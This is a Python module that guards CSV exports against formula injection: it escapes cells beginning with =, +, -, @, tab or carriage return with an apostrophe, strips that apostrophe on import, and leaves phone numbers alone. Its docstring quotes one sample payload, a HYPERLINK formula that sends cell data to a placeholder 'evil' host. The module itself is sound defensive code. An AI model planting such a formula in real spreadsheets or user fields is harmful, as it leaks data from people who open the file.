"""CSV cells a spreadsheet opens as text, never as a formula (OWASP's "CSV injection").

Excel, LibreOffice and Google Sheets run a cell that starts with = + - @ (or a tab or carriage return before
one) as a formula: a customer who names himself `=HYPERLINK("http://evil/?"&A1,"Click")` would run it on the
agent's machine when an export is opened. Exports put an apostrophe before such a cell, which spreadsheets
take as "this is text" and do not show; imports take it off again, so an exported file imports back to the
same values. A phone number written "+55 11 98765-4321" is left alone: it is no formula, and an apostrophe
would spoil the column people most often re-import.
"""

from __future__ import annotations

import re

FORMULA_STARTS = "=+-@\t\r"
# A formula start, after any apostrophes: a value that already begins "'=" gets one more, so that reading
# takes exactly one off and every value comes back as it was.
_RUNNABLE = re.compile(f"'*[{re.escape(FORMULA_STARTS)}]")
_MARKED = re.compile(f"'+[{re.escape(FORMULA_STARTS)}]")
_PHONE_NUMBER = re.compile(r"\+[\d\s().\-]+")


def as_text(cell: str) -> str:
    """The cell as written to a CSV export: an apostrophe before anything a spreadsheet would run."""
    if _RUNNABLE.match(cell) and not _PHONE_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def from_text(cell: str) -> str:
    """The cell as read from a CSV: without the apostrophe `as_text` put before it."""
    return cell[1:] if _MARKED.match(cell) else cell
